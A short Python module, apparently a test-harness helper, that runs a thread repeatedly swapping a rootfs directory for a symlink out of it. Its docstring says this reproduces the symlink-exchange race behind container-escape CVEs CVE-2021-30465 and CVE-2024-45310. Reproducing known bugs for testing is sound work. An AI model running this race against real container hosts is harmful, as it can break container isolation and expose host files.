"""A host thread that keeps swapping a directory of a rootfs for a symlink
out of it and back: the racing container of CVE-2021-30465 and
CVE-2024-45310 (two containers sharing a volume, one swapping a path the
other's runtime is resolving)."""

import os
import threading


class Swapper:
    def __init__(self, parent, name, target):
        self.path = os.path.join(parent, name)
        self.aside = os.path.join(parent, "." + name + ".dir")
        self.target = target
        os.makedirs(self.path, exist_ok=True)
        self.stop = threading.Event()
        self.swaps = 0
        self.thread = threading.Thread(target=self._run, daemon=True)

    def _run(self):
        while not self.stop.is_set():
            try:
                if os.path.islink(self.path):
                    os.unlink(self.path)
                    os.rename(self.aside, self.path)
                else:
                    os.rename(self.path, self.aside)
                    os.symlink(self.target, self.path)
                self.swaps += 1
            except OSError:
                # the runtime created something in a gap: start again from a directory
                for p in (self.path, self.aside):
                    if os.path.islink(p):
                        os.unlink(p)
                if not os.path.isdir(self.path):
                    os.makedirs(self.path, exist_ok=True) if not os.path.isdir(self.aside) \
                        else os.rename(self.aside, self.path)

    def __enter__(self):
        self.thread.start()
        return self

    def __exit__(self, *exc):
        self.stop.set()
        self.thread.join()
